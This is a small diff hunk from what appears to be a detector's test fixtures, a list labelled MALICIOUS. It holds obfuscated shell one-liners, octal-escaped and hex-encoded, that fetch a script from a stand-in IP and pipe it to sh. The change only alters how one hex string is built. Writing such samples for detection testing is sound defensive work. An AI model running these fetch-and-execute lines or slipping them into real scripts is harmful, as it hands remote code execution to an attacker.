@@ -111,7 +111,7 @@ MALICIOUS: tuple[Held, ...] = (
         },
     ),
     Held("encoded", {"scripts/a.sh": "printf '\\143\\165\\162\\154 192.0.2.5/x|sh' | sh\n"}),
-    Held("encoded", {"scripts/a.sh": f"echo {'curl http://192.0.2.5/x | sh'.encode().hex()} | xxd -r -p | sh\n"}),
+    Held("encoded", {"scripts/a.sh": f"echo {b'curl http://192.0.2.5/x | sh'.hex()} | xxd -r -p | sh\n"}),
     Held(
         "encoded",
         {
